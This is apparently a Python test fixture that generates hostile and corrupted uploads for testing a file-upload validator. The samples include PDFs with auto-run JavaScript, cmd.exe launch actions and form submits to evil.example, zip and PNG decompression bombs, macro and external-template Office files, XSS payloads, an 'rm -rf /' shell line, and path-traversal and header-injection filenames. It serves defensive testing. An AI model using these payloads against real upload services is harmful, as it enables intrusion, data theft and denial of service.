"""Uploads that mean harm, each made anew from its number. Even ones are built to be refused, whatever reads them; odd
ones are honest files with bytes turned, cut and doubled, which may be taken when they are still what we take."""

import io
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass

from tests.files import samples, tapes
from tests.files.samples import archive, excel, odt, on_opening, pdf, picture, word
from tests.files.tapes import box, element, mp3, mp4, ogg, trak, wav, webm

DOCUMENT, RECORDING = "document", "recording"
EVIL = b"<script>alert(document.domain)</script>"


@dataclass(frozen=True)
class Hostile:
    """One upload: where it goes, under which name, and whether it must never be taken."""

    number: int
    question: str
    name: str
    content: bytes
    never: bool


# --- PDF -------------------------------------------------------------------------------------------------------------


def raw_pdf(*objects, root=1, before=b"", after=b""):
    """A PDF of these objects (bytes), with an old-fashioned table."""
    body, places = before + b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % place for place in places)
    return body + b"trailer<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, start) + after


PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"


def stream(content, detail=b""):
    packed = zlib.compress(content)
    return b"<</Filter/FlateDecode/Length %d%s>>stream\n%s\nendstream" % (len(packed), detail, packed)


def in_object_stream(catalog):
    """The catalog stands inside a packed stream of objects, where a search for words does not see it."""
    inside = b"1 0 " + catalog
    body, places = b"%PDF-1.7\n", {}
    for number, content in ((2, PAGES), (3, PAGE), (4, stream(inside, b"/Type/ObjStm/N 1/First 4"))):
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(body)
    rows = [(0, 0, 255), (2, 4, 0), (1, places[2], 0), (1, places[3], 0), (1, places[4], 0), (1, start, 0)]
    table = b"".join(struct.pack(">BHB", *row) for row in rows)
    body += b"5 0 obj\n%s\nendobj\n" % stream(table, b"/Type/XRef/Size 6/W[1 2 1]/Root 1 0 R")
    return body + b"startxref\n%d\n%%%%EOF\n" % start


def catalog(more):
    return b"<</Type/Catalog/Pages 2 0 R%s>>" % more


ACTIVE = [
    b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>", b"/OpenAction<</S/J#61vaScript/J#53(1)>>",
    b"/OpenAction<</S/Launch/F(cmd.exe)>>", b"/OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>",
    b"/OpenAction<</S/SubmitForm/F(http://evil.example)>>", b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share)/D[0]>>",
    b"/OpenAction<</S/GoToE/F(x)/D[0]>>", b"/OpenAction<</S/ImportData/F(x)>>", b"/AA<</WC<</S/JavaScript/JS(1)>>>>",
    b"/Names<</EmbeddedFiles<</Names[(a)<</EF<</F 3 0 R>>>>]>>>>", b"/Names<</JavaScript<</Names[(a)<</JS(1)>>]>>>>",
    b"/AcroForm<</XFA[(a)3 0 R]>>", b"/AF[<</EF<</F 3 0 R>>>>]", b"/X[/Y[<</Z<</S/JavaScript/JS(1)>>>>]]",
]  # fmt: skip


def bad_pdf(rng):
    more = rng.choice(ACTIVE)
    return rng.choice([
        lambda: raw_pdf(catalog(more), PAGES, PAGE), lambda: in_object_stream(catalog(more)),
        lambda: raw_pdf(catalog(b""), PAGES, PAGE, after=archive({"evil.exe": "MZ" * 2000})),
        lambda: raw_pdf(catalog(b""), PAGES, PAGE, before=EVIL), lambda: on_opening("/JavaScript", JS="1"),
        lambda: raw_pdf(catalog(b""), b"<</Type/Pages/Kids[2 0 R]/Count 9>>"),
        lambda: raw_pdf(catalog(b""), b"<</Type/Pages/Kids[]/Count 99999999>>"),
        lambda: pdf()[: rng.randrange(1, 300)], lambda: b"%PDF-1.4\n" + rng.randbytes(500), lambda: b"%PDF-",
        lambda: b"%PDF-1.7\n" + b"[" * 20_000 + b"startxref\n9\n%%EOF",
    ])()  # fmt: skip


# --- archives, pictures, pages, programs -----------------------------------------------------------------------------


def bomb(parts=1, size=60_000_000):
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as found:
        kind = f'<Types><Override ContentType="{samples.WORD}"/></Types>'
        found.writestr(zipfile.ZipInfo("[Content_Types].xml"), kind)
        for number in range(parts):
            found.writestr(zipfile.ZipInfo(f"word/document{number or ''}.xml"), bytes(size), zipfile.ZIP_DEFLATED)
    return result.getvalue()


BOMB = bomb(2)


def many_parts():
    return archive({f"{number}": "" for number in range(2100)})


def bad_office(rng):
    odd = rng.choice(["../../evil.xml", "/etc/passwd", "word/vbaProject.bin", "word/embeddings/a.exe", "x.js"])
    rels = '<Relationship Type="attachedTemplate" Target="http://evil.example" TargetMode="External"/>'
    return rng.choice([
        lambda: word(**{odd: "x"}), lambda: BOMB, lambda: word(kind=samples.MACRO), lambda: archive({"a.txt": "x"}),
        lambda: word(**{"word/_rels/document.xml.rels": rels}), many_parts,
        lambda: b"MZ" + word(), lambda: word()[: rng.randrange(4, 150)],
        lambda: archive({"a.zip": archive({"b": "c"})}),
        lambda: odt(**{"Basic/script.xml": "x"}),
        lambda: word().replace(b"PK\x01\x02", b"PK\x01\x09"),
        lambda: b"PK\x03\x04" + rng.randbytes(300), lambda: b"PK\x05\x06" + bytes(18),
    ])()  # fmt: skip


def png_of(width, height, content):
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", content) + chunk(b"IEND", b"")


PACKED = zlib.compress(bytes(20_000_000), 9)


def bad_picture(rng):
    return rng.choice([
        lambda: png_of(100_000, 100_000, PACKED), lambda: png_of(2**31 - 1, 2**31 - 1, b""),
        lambda: png_of(0, 0, PACKED), lambda: png_of(20, 20, b"not packed"), lambda: b"GIF89a" + EVIL,
        lambda: b"\xff\xd8\xff\xe0" + rng.randbytes(200), lambda: picture("JPEG")[: rng.randrange(3, 200)],
        lambda: b"\x89PNG\r\n\x1a\n" + EVIL, lambda: picture("PNG", exif=False)[: rng.randrange(8, 40)],
    ])()  # fmt: skip


def bad_page(rng):
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + EVIL + b"</svg>"
    return rng.choice([
        b"<html>" + EVIL, b"<!doctype html>" + EVIL, svg, b"<?xml version='1.0'?>" + svg, b"#!/bin/sh\nrm -rf /\x00",
        b"MZ\x90\x00" + bytes(200), b"\x7fELF" + bytes(200), b"", b"\x00" * 5000, b"\x1f\x8b\x08" + bytes(60),
        b"Rar!\x1a\x07\x00" + bytes(60), b"7z\xbc\xaf\x27\x1c" + bytes(60), b"{\\rtf1" + bytes(90), rng.randbytes(400),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), b"\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00",
    ])  # fmt: skip


def bad_recording(rng):
    long = rng.randrange(190, 400)
    return rng.choice([
        lambda: webm(more=tapes.ATTACHED), lambda: webm(long), lambda: webm(long, said=1000), lambda: webm()[:-1],
        lambda: mp4(trak(seconds=long, said=2)), lambda: mp4(more=box(b"mdat", b"", size=2**31 - 1)),
        lambda: mp4()[: rng.randrange(9, 400)], lambda: mp4(trak(b"text", b"tx3g")),
        lambda: webm(tracks=tapes.SOUND * 3),
        lambda: webm(more=element("ec", b"", size=2**50)),
        lambda: webm(tracks=tapes.track(17, b"S_TEXT/UTF8")),
        lambda: webm(doctype=b"matroska"), lambda: wav(long, rate=500), lambda: mp3(long), lambda: b"OggS" + EVIL,
        lambda: b"\x1a\x45\xdf\xa3" + EVIL * 20, lambda: b"\x00\x00\x00\x18ftypisom" + EVIL * 9, lambda: b"ID3" + EVIL,
        lambda: b"RIFF\xff\xff\xff\xffWAVE" + EVIL, lambda: box(b"ftyp", b"isom") + box(b"moov") * 3000,
        lambda: box(b"ftyp", b"isom") + b"".join(struct.pack(">I", 8 * n) + b"trak" for n in range(40, 0, -1)),
        lambda: bad_pdf(rng), lambda: bad_page(rng), lambda: BOMB, lambda: pdf(), lambda: picture(),
    ])()  # fmt: skip


# --- names, and the whole --------------------------------------------------------------------------------------------

NAMES = [
    "plan{}", "../../../etc/plan{}", "..\\..\\plan{}", "plan.exe{}", "plan{}.exe", "plan\u202egpj{}", "\u202e{}",
    "pl\x00an{}", "C:\\Windows\\plan{}", "CON{}", "{}", ".{}", "plan{}.", "plan {}", "p" * 3000 + "{}", "🦄{}",
    "pl\r\nX-Evil: 1{}",
    'pl"an{}', "plan;{}", "<script>{}", "plan%00{}", "plan{}{}", "/etc/passwd{}", "~{}", "-rf{}", "ｐlan．pdf{}",
]  # fmt: skip
ENDINGS = [
    ".pdf",
    ".docx",
    ".xlsx",
    ".odt",
    ".jpg",
    ".png",
    ".txt",
    ".webm",
    ".mp4",
    ".html",
    ".svg",
    "",
    ".PDF",
    ".php",
]
HONEST = {
    DOCUMENT: [
        (pdf(), ".pdf"), (pdf(pages=3), ".pdf"), (word(), ".docx"), (excel(), ".xlsx"), (odt(), ".odt"),
        (picture(), ".jpg"), (picture("PNG", exif=False), ".png"), (b"Words of ours.\n" * 20, ".txt"),
    ],
    RECORDING: [(webm(), ".webm"), (mp4(), ".mp4"), (wav(1), ".wav"), (mp3(1), ".mp3"), (ogg(1), ".ogg")],
}  # fmt: skip


def a_name(rng, ending):
    name = rng.choice(NAMES) if rng.random() < 0.5 else "plan{}"
    return name.replace("{}", ending if rng.random() < 0.6 else rng.choice(ENDINGS))


def changed(rng, content):
    content = bytearray(content)
    for _ in range(rng.randrange(1, 6)):
        at, length = rng.randrange(len(content) + 1), rng.randrange(1, 40)
        end, new = rng.choice([
            (at + length, rng.randbytes(length)),  # other bytes
            (at + length, b""),  # a hole
            (len(content), b""),  # cut off
            (at, content[at : at + length]),  # twice
            (at + 1, bytes([rng.randrange(256)])),  # one byte
            (at + 4, b"\xff" * 4),  # a length as large as can be
            (at, EVIL),
        ])  # fmt: skip
        content[at:end] = new
    return bytes(content)


def upload_number(number):
    """The upload of this number, the same each time."""
    rng = random.Random(number)
    question = rng.choice([DOCUMENT, DOCUMENT, RECORDING])
    if number % 2:
        content, ending = rng.choice(HONEST[question])
        return Hostile(number, question, a_name(rng, ending), changed(rng, content), False)
    if question == RECORDING:
        return Hostile(number, question, a_name(rng, ".webm"), bad_recording(rng), True)
    make, endings = rng.choice([
        (bad_pdf, [".pdf"]), (bad_office, [".docx", ".xlsx", ".odt"]), (bad_picture, [".png", ".jpg"]),
        (bad_page, [".pdf", ".png", ".docx", ".html", ".svg", ".jpg"]), (bad_recording, [".pdf", ".png", ".docx"]),
    ])  # fmt: skip
    content, name = make(rng), f"plan{rng.choice(endings)}"
    is_honest = any(
        content == one for one, _ in HONEST[DOCUMENT]
    )  # a recording's wrong kind may be a document's right one
    return Hostile(number, question, name, content, not is_honest)
